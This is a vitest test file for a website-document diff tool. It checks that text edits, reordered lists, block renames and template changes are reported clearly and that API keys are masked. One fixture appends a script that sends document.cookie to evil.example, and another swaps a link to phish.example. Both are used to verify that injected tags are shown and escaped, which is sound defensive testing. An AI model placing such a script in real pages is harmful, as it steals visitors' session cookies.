/**
 * A diff that hides nothing (docs/site-documents.md, "Semantic diff"): long text and HTML show the words and
 * tags that changed, reordered lists read as moves, a renamed block as a rename, a
 * template switch or edit says what changes for each site, and no secret is printed.
 */
import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { cloneDeep } from 'lodash-es';
import { afterAll, describe, expect, it } from 'vitest';
import { diffSiteDocuments, type SiteChange } from '../../../engine/document/diff.ts';
import {
  renderJson,
  renderMarkdown,
  renderReport,
  renderText,
} from '../../../engine/document/diff-render.ts';
import { describeChange } from '../../../engine/document/diff-sentences.ts';
import { diffSets, folderSet } from '../../../engine/document/diff-sets.ts';
import { outlineDocument } from '../../../engine/document/outline.ts';
import { SECRET_TEXT } from '../../../engine/document/secrets.ts';

const ROOT = join(import.meta.dirname, '../../..');
const tmp = mkdtempSync(join(tmpdir(), 'forecourt-diff-hides-'));
afterAll(() => rmSync(tmp, { recursive: true, force: true }));

const REVIEWS = ['Sarah M.', 'Daniel K.', 'Priya R.', 'Tom and Jess', 'Graham W.', 'Lena B.'].map(
  (customer_name, i) => ({
    id: i + 1,
    customer_name,
    rating: 5,
    text: `Review number ${i + 1}: friendly, honest and no pressure at all.`,
  }),
);

const PARAGRAPH = Array.from(
  { length: 300 },
  (_, i) =>
    [
      'Our',
      'service',
      'team',
      'fits',
      'genuine',
      'parts',
      'to',
      'every',
      'car',
      'we',
      'look',
      'after',
    ][i % 12],
).join(' ');

function base(): Record<string, any> {
  return {
    schemaVersion: 2,
    slug: 'test-site',
    name: 'Test Motors',
    locations: [
      { id: 1, name: 'Main Street', slug: 'main' },
      { id: 2, name: 'Harbour', slug: 'harbour' },
      { id: 3, name: 'Service Centre', slug: 'service' },
    ],
    layout: {
      header: [
        {
          type: 'header',
          id: 'site-header',
          props: {
            menu: [
              { label: 'Home', href: '/' },
              { label: 'Used Cars', href: '/used' },
              { label: 'Finance', href: '/finance' },
              {
                label: 'About',
                children: [
                  { label: 'About Us', href: '/about' },
                  { label: 'Contact', href: '/contact' },
                ],
              },
            ],
          },
        },
      ],
      footer: [
        {
          type: 'footer',
          id: 'site-footer',
          props: {
            columns: [
              {
                heading: 'Cars',
                links: [
                  { label: 'New', href: '/new' },
                  { label: 'Used', href: '/used' },
                ],
              },
              { heading: 'Help', links: [] },
            ],
          },
        },
      ],
    },
    pages: [
      {
        id: 'home',
        path: '/',
        title: 'Home',
        blocks: [
          {
            type: 'hero',
            id: 'home-hero',
            props: { heading: 'Welcome', text: 'Cars for everyone.' },
          },
          { type: 'rich-text', id: 'intro', props: { html: `<p>${PARAGRAPH}</p>` } },
          { type: 'reviews', id: 'home-reviews', props: { reviews: cloneDeep(REVIEWS) } },
          {
            type: 'carousel',
            id: 'offers-carousel',
            props: {
              slides: ['Ranger', 'Everest', 'Mustang'].map((title) => ({
                title,
                text: `${title} deal`,
                image: { src: `/assets/${title}.svg`, alt: title },
              })),
            },
          },
          {
            type: 'faq-accordion',
            id: 'faq',
            props: {
              items: [
                { question: 'Q1?', answer: '<p>A1</p>' },
                { question: 'Q2?', answer: '<p>A2</p>' },
              ],
            },
          },
          {
            type: 'section',
            id: 'why-us',
            props: { heading: 'Why us' },
            children: [{ type: 'hero', id: 'why-a', props: { heading: 'A' } }],
          },
        ],
      },
    ],
  };
}

function diffAfter(edit: (d: Record<string, any>) => void) {
  const before = base();
  const after = cloneDeep(before);
  edit(after);
  return diffSiteDocuments(before, after);
}

/** Every `X → Y` a line prints, with its two sides, must show two different things. */
function expectNoIdenticalSides(text: string) {
  for (const line of text.split('\n')) {
    const m = /(".*?"|\S+) → (".*?"|\S+)/.exec(line);
    if (m) expect(m[1], line).not.toBe(m[2]);
  }
}

const home = (d: Record<string, any>) => d.pages[0].blocks;

describe('long text and HTML: the words and tags that changed, in context', () => {
  it('a one-word change in a 300-word paragraph shows that word with a few words either side', () => {
    const changes = diffAfter(
      (d) =>
        (home(d)[1].props.html = home(d)[1].props.html.replace(
          'genuine parts to every car we',
          'genuine Toyota parts to every car we',
        )),
    );
    expect(changes).toHaveLength(1);
    const text = renderText(changes);
    expect(text).toBe(
      'Block rich-text intro on page home: props/html edited: "… service team fits genuine {+Toyota +}parts to every car …"\n',
    );
    expectNoIdenticalSides(text);
    // The before and after as printed differ: the old form cut both to the same 80 characters.
    expect(text).not.toMatch(/"(.{70,})" → "\1"/);
    expect(text.length).toBeLessThan(200);
    const md = renderMarkdown(changes);
    expect(md).toContain(
      '`props/html` edited: "… service team fits genuine <ins>Toyota </ins>parts to every car …"',
    );
  });

  it('a change deep in a paragraph keeps context on both sides and elides the rest', () => {
    const words = PARAGRAPH.split(' ');
    words[200] = 'original';
    const after = [...words];
    after[200] = 'OEM';
    const changes = diffSiteDocuments(
      { ...base(), name: words.join(' ') },
      { ...base(), name: after.join(' ') },
    );
    const line = describeChange(changes[0]);
    expect(line).toMatch(
      /^Identity: name edited: "… \S+ \S+ \S+ \S+ \[-original-\]\{\+OEM\+\} \S+ \S+ \S+ \S+ …"$/,
    );
  });

  it('a <script> appended to rich text is shown as that tag, in text and Markdown', () => {
    const changes = diffAfter(
      (d) =>
        (home(d)[1].props.html +=
          '<script>fetch("https://evil.example/?c=" + document.cookie)</script>'),
    );
    const text = renderText(changes);
    expect(text).toContain(
      'props/html edited: "… we look after</p>{+<script>fetch(\\"https://evil.example/?c=\\" + document.cookie)</script>+}" (tags added: <script>)',
    );
    expectNoIdenticalSides(text);
    const md = renderMarkdown(changes);
    // Escaped: the comment shows the tag instead of running it, and nothing in it is Markdown.
    expect(md).toContain(
      '<ins>&lt;script&gt;fetch(\\\\"https://evil.example/?c=\\\\" + document.cookie)&lt;/script&gt;</ins>" (tags added: `<script>`)',
    );
    expect(md).not.toMatch(/<script>fetch/);
  });

  it('a changed link target inside HTML names the tag', () => {
    const changes = diffAfter(
      (d) =>
        (home(d)[1].props.html = home(d)[1].props.html.replace(
          '<p>',
          '<p><a href="/service">Book</a> ',
        )),
    );
    const before = base();
    before.pages[0].blocks[1].props.html = before.pages[0].blocks[1].props.html.replace(
      '<p>',
      '<p><a href="/service">Book</a> ',
    );
    const after = cloneDeep(before);
    after.pages[0].blocks[1].props.html = after.pages[0].blocks[1].props.html.replace(
      'href="/service"',
      'href="https://phish.example"',
    );
    expect(renderText(changes)).toContain('tags added: <a>');
    expect(renderText(diffSiteDocuments(before, after))).toContain(
      'props/html edited: "<p>[-<a href=\\"/service\\">-]{+<a href=\\"https://phish.example\\">+}Book</a> Our service …" (tags changed: <a>)',
    );
  });

  it("the editor review panel's wrapper (a function) gets the word diff as one value", () => {
    const changes = diffAfter((d) => (home(d)[1].props.html += '<script>x</script>'));
    expect(describeChange(changes[0], (s) => `‹${s}›`)).toBe(
      'Block rich-text ‹intro› on page ‹home›: ‹props/html› edited: ‹"… we look after</p>{+<script>x</script>+}" (tags added: <script>)›',
    );
  });

  it('short values keep "a" → "b"; invisible characters are spelt out so they never print alike', () => {
    expect(renderText(diffAfter((d) => (home(d)[0].props.heading = 'Hello')))).toBe(
      'Block hero home-hero on page home: props/heading "Welcome" → "Hello"\n',
    );
    const nbsp = renderText(diffAfter((d) => (home(d)[0].props.text = 'Cars for\u00a0everyone.')));
    expect(nbsp).toBe(
      'Block hero home-hero on page home: props/text "Cars for everyone." → "Cars for\\u00a0everyone."\n',
    );
    const zw = renderText(diffAfter((d) => (home(d)[0].props.heading = 'Wel\u200bcome')));
    expect(zw).toContain('"Welcome" → "Wel\\u200bcome"');
  });
});

describe('reordered lists read as moves', () => {
  it('six reviews reordered: one line naming each moved review', () => {
    const changes = diffAfter((d) => home(d)[2].props.reviews.reverse());
    expect(changes).toEqual([
      expect.objectContaining({ kind: 'block-changed', path: '/props/reviews', op: 'reordered' }),
    ]);
    const text = renderText(changes);
    // One line, at most one entry per moved review, fewer than the six reviews (the middle one kept its place).
    expect(text.trim().split('\n')).toHaveLength(1);
    expect(text.match(/moved from position/g)).toHaveLength(5);
    expect(text).toBe(
      'Block reviews home-reviews on page home: props/reviews reordered: "Graham W." moved from position 5 to 2; "Tom and Jess" moved from position 4 to 3; "Priya R." moved from position 3 to 4; "Daniel K." moved from position 2 to 5; "Sarah M." moved from position 1 to 6\n',
    );
    // Moving one review is one move, not six positions edited.
    const one = renderText(
      diffAfter((d) =>
        d.pages[0].blocks[2].props.reviews.unshift(d.pages[0].blocks[2].props.reviews.pop()),
      ),
    );
    expect(one).toBe(
      'Block reviews home-reviews on page home: props/reviews reordered: "Lena B." moved from position 6 to 1\n',
    );
  });

  it('a review edited and moved is reported as both', () => {
    const changes = diffAfter((d) => {
      const list = home(d)[2].props.reviews;
      const [sarah] = list.splice(0, 1);
      sarah.rating = 4;
      list.push(sarah);
    });
    expect(renderText(changes).split('\n')).toEqual([
      'Block reviews home-reviews on page home: props/reviews reordered: "Sarah M." moved from position 1 to 6',
      'Block reviews home-reviews on page home: props/reviews/5/rating ("Sarah M.") 5 → 4',
      '',
    ]);
  });

  it('menu items, their children and footer links; items added and removed by name', () => {
    const changes = diffAfter((d) => {
      const menu = d.layout.header[0].props.menu;
      [menu[1], menu[2]] = [menu[2], menu[1]];
      menu[3].children.reverse();
      menu.push({ label: 'Contact', href: '/contact' });
      d.layout.footer[0].props.columns[0].links.reverse();
      d.layout.footer[0].props.columns.reverse();
    });
    expect(renderText(changes).split('\n')).toEqual([
      'Block header site-header on the header: props/menu: added "Contact" at position 5: {"label":"Contact","href":"/contact"}',
      'Block header site-header on the header: props/menu reordered: "Used Cars" moved from position 2 to 3',
      'Block header site-header on the header: props/menu/3/children reordered: "About Us" moved from position 1 to 2',
      'Block footer site-footer on the footer: props/columns reordered: "Cars" moved from position 1 to 2',
      'Block footer site-footer on the footer: props/columns/1/links reordered: "New" moved from position 1 to 2',
      '',
    ]);
    const removed = renderText(diffAfter((d) => d.layout.header[0].props.menu.splice(2, 1)));
    expect(removed).toBe(
      'Block header site-header on the header: props/menu: removed "Finance" (was position 3): {"label":"Finance","href":"/finance"}\n',
    );
    // A menu item whose link changed stays that item.
    const edited = renderText(
      diffAfter((d) => (d.layout.header[0].props.menu[2].href = '/car-finance')),
    );
    expect(edited).toBe(
      'Block header site-header on the header: props/menu/2/href ("Finance") "/finance" → "/car-finance"\n',
    );
  });

  it('carousel slides and FAQ items (no ids) are matched by their title or question', () => {
    const changes = diffAfter((d) => {
      home(d)[3].props.slides.reverse();
      home(d)[3].props.slides[0].text = 'Mustang: 0% finance';
      home(d)[4].props.items.reverse();
    });
    expect(renderText(changes).split('\n')).toEqual([
      'Block carousel offers-carousel on page home: props/slides reordered: "Mustang" moved from position 3 to 1; "Ranger" moved from position 1 to 3',
      'Block carousel offers-carousel on page home: props/slides/0/text ("Mustang") "Mustang deal" → "Mustang: 0% finance"',
      'Block faq-accordion faq on page home: props/items reordered: "Q1?" moved from position 1 to 2',
      '',
    ]);
  });

  it('locations (the order visitors see the cards) reordered is a change, named by location', () => {
    const changes = diffAfter((d) => d.locations.reverse());
    expect(changes).toHaveLength(1);
    expect(renderText(changes)).toBe(
      'Locations reordered (visitors see them in this order): Service Centre (id 3) moved from position 3 to 1; Main Street (id 1) moved from position 1 to 3\n',
    );
    expect(renderMarkdown(changes)).toMatch(/^#### Identity\n\n- Locations reordered/);
  });
});

describe('block renames', () => {
  it('same type, same place, same props: a rename, not a removal and an addition', () => {
    const changes = diffAfter((d) => (home(d)[0].id = 'main-hero'));
    expect(changes).toEqual([
      {
        kind: 'block-renamed',
        block: { id: 'main-hero', type: 'hero' },
        from: 'home-hero',
        at: { area: 'page', page: 'home', index: 0, path: '/pages/0/blocks/0' },
      },
    ]);
    expect(renderText(changes)).toBe(
      'Block hero renamed home-hero → main-hero (page home, position 1)\n',
    );
  });

  it('a rename with a prop edited is a rename plus the edit; a renamed container keeps its children in place', () => {
    const changes = diffAfter((d) => {
      home(d)[0].id = 'main-hero';
      home(d)[0].props.heading = 'Hello';
      home(d)[5].id = 'why-choose-us';
      home(d)[5].children[0].id = 'why-first';
    });
    expect(renderText(changes).split('\n')).toEqual([
      'Block hero renamed home-hero → main-hero (page home, position 1)',
      'Block hero main-hero on page home: props/heading "Welcome" → "Hello"',
      'Block section renamed why-us → why-choose-us (page home, position 6)',
      'Block hero renamed why-a → why-first (page home inside section why-choose-us, position 1)',
      '',
    ]);
  });

  it('a different block in the same place is still a removal and an addition', () => {
    const changes = diffAfter(
      (d) =>
        (home(d)[0] = {
          type: 'hero',
          id: 'sale-hero',
          props: { heading: 'Sale', text: 'Everything must go.' },
        }),
    );
    expect(changes.map((c) => c.kind)).toEqual(['block-removed', 'block-added']);
  });
});

describe('templates: what a switch or an edit changes for each site', () => {
  const ford = {
    theme: { radius: 4 },
    features: { reserveButtons: true },
    pages: [{ id: 'service', path: '/service', title: 'Service', blocks: [] }],
  };
  const premium = {
    theme: { radius: 12 },
    features: { reserveButtons: true, compare: true },
    pages: [{ id: 'concierge', path: '/concierge', title: 'Concierge', blocks: [] }],
  };

  it('a template switch lists what changes for the site, grouped under it', () => {
    const before = { ...base(), template: 'ford' };
    const after = { ...base(), template: 'ford-premium' };
    const changes = diffSiteDocuments(before, after, {
      templates: { before: ford, after: premium },
    });
    expect(changes).toHaveLength(1);
    const c = changes[0] as Extract<SiteChange, { kind: 'template' }>;
    expect(c.effects?.map((e) => e.kind)).toEqual([
      'setting',
      'feature',
      'page-removed',
      'page-added',
    ]);
    expect(renderText(changes).split('\n')).toEqual([
      'Template: now extends ford-premium instead of ford; for this site that changes (4 changes):',
      '    Theme: radius 4 → 12',
      '    Feature compare turned on (the default is off)',
      '    Page service removed (was /service, with 0 blocks)',
      '    Page concierge added at /concierge titled "Concierge", with 0 blocks',
      '',
    ]);
    expect(renderMarkdown(changes)).toBe(
      [
        '#### Template',
        '',
        '- Template: now extends `ford-premium` instead of `ford`; for this site that changes (4 changes):',
        '  - Theme: `radius` `4` → `12`',
        '  - Feature `compare` turned on (the default is off)',
        '  - Page `service` removed (was `/service`, with 0 blocks)',
        '  - Page `concierge` added at `/concierge` titled `"Concierge"`, with 0 blocks',
        '',
      ].join('\n'),
    );
    // A switch to a template that changes nothing for the site says so.
    const same = diffSiteDocuments(before, after, {
      templates: { before: ford, after: cloneDeep(ford) },
    });
    expect(describeChange(same[0])).toBe(
      'Template: now extends ford-premium instead of ford; nothing changes for this site',
    );
  });

  it('a template edit lists the sites that extend it, what changes for each, and where a site overrides it', () => {
    const a = join(tmp, 'tpl-a');
    const b = join(tmp, 'tpl-b');
    cpSync(join(ROOT, 'sites'), a, { recursive: true });
    // A second Ford site that sets reserveButtons itself, and a site on no template.
    const own = JSON.parse(readFileSync(join(a, 'gold-coast-ford.json'), 'utf8'));
    own.slug = 'own-buttons-ford';
    own.hostnames = ['own.localhost'];
    own.features.reserveButtons = true;
    writeFileSync(join(a, 'own-buttons-ford.json'), JSON.stringify(own, null, 2));
    cpSync(a, b, { recursive: true });
    const tpl = JSON.parse(readFileSync(join(b, 'templates/ford.json'), 'utf8'));
    tpl.features.reserveButtons = false;
    tpl.theme.radius = 8;
    writeFileSync(join(b, 'templates/ford.json'), JSON.stringify(tpl, null, 2));

    const files = diffSets(folderSet(a, 'a'), folderSet(b, 'b'));
    expect(files.map((f) => f.file)).toEqual([
      join(b, 'templates/ford.json').replace(`${process.cwd()}/`, ''),
    ]);
    expect(files[0].inheritedBy?.map((s) => s.site)).toEqual([
      'gold-coast-ford',
      'own-buttons-ford',
    ]);
    const text = renderReport(files, 'text');
    expect(text).toContain(
      [
        '  Theme: radius 4 → 8',
        '  Feature reserveButtons turned off',
        '  Sites that extend this template (2):',
        `    ${files[0].inheritedBy![0].file}:`,
        '      Theme: radius 4 → 8',
        '      Feature reserveButtons turned off',
        `    ${files[0].inheritedBy![1].file}:`,
        '      Theme: radius 4 → 8',
        '      Not for this site (it sets this itself): Feature reserveButtons turned off',
        '',
      ].join('\n'),
    );
    expect(text).not.toContain('kiwi-car-yard');
    const md = renderReport(files, 'markdown');
    expect(md).toContain('#### Sites that extend this template\n\n- `');
    expect(md).toContain(
      '  - Not for this site (it sets this itself): Feature `reserveButtons` turned off',
    );
    const json = JSON.parse(renderReport(files, 'json'));
    expect(json.files[0].inheritedBy[1]).toMatchObject({
      site: 'own-buttons-ford',
      via: [],
      overridden: [{ kind: 'feature', key: 'reserveButtons' }],
    });
  });
});

describe('secrets are never printed', () => {
  it('serviceBookingKey, search.apiKey and any key or token named like one show as secrets, in every format', () => {
    const before: Record<string, any> = {
      ...base(),
      features: { serviceBookingKey: 'bk-live-111111' },
      search: { engine: 'algolia', appId: 'APP1', apiKey: 'algolia-search-key-aaaa' },
    };
    const after = cloneDeep(before);
    after.features.serviceBookingKey = 'bk-live-222222';
    after.search.apiKey = 'algolia-search-key-bbbb';
    after.pages[0].blocks.push({
      type: 'embed',
      id: 'widget',
      props: { items: [{ label: 'x', accessToken: 'tok-secret-123456' }] },
    });
    after.layout.header[0].props.menu.push({
      label: 'Book',
      href: '/book',
      apiKey: 'menu-key-999999',
    });
    const changes = diffSiteDocuments(before, after);
    for (const out of [
      renderText(changes),
      renderMarkdown(changes),
      renderJson(changes),
      renderReport([{ file: 'x.json', status: 'modified', changes }], 'json'),
      outlineDocument(after),
    ]) {
      for (const secret of [
        'bk-live-111111',
        'bk-live-222222',
        'algolia-search-key-aaaa',
        'algolia-search-key-bbbb',
        'menu-key-999999',
      ])
        expect(out).not.toContain(secret);
    }
    const text = renderText(changes);
    expect(text).toContain(
      `Feature serviceBookingKey: ${SECRET_TEXT} → (another secret, not shown)`,
    );
    expect(text).toContain(`Search: apiKey ${SECRET_TEXT} → (another secret, not shown)`);
    expect(text).toContain(`"apiKey":"${SECRET_TEXT}"`);
    // Setting one where there was none: that it was set shows, not the value.
    const set = diffSiteDocuments(base(), {
      ...base(),
      features: { serviceBookingKey: 'bk-live-333333' },
    });
    expect(renderText(set)).toBe(
      `Feature serviceBookingKey: "" → ${SECRET_TEXT} (was the default)\n`,
    );
  });
});

describe('the readable outline (git textconv)', () => {
  it('names every value by page, block and list item; long text one sentence a line; formatting changes nothing', () => {
    const doc = base();
    home(doc)[1].props.html =
      '<p>First sentence of a long paragraph about our service. Second sentence, also long enough to wrap.</p><p>Next paragraph.</p>';
    const out = outlineDocument(doc);
    expect(out).toContain('page home › hero home-hero: props/heading = "Welcome"\n');
    expect(out).toContain(
      'page home › rich-text intro: props/html | <p>First sentence of a long paragraph about our service. \n',
    );
    expect(out).toContain('page home › rich-text intro: props/html | <p>Next paragraph.</p>\n');
    expect(out).toContain('page home › reviews home-reviews: props/reviews[Sarah M.]/rating = 5\n');
    expect(out).toContain(
      'header › header site-header: props/menu[About]/children[Contact]/href = "/contact"\n',
    );
    expect(out).toContain('locations[Harbour]/slug = "harbour"\n');
    expect(out).toContain('page home › section why-us › hero why-a: props/heading = "A"\n');
    // Key order and indentation do not matter.
    const reordered = JSON.parse(JSON.stringify(Object.fromEntries(Object.entries(doc).reverse())));
    expect(outlineDocument(reordered)).toBe(out);
  });
});
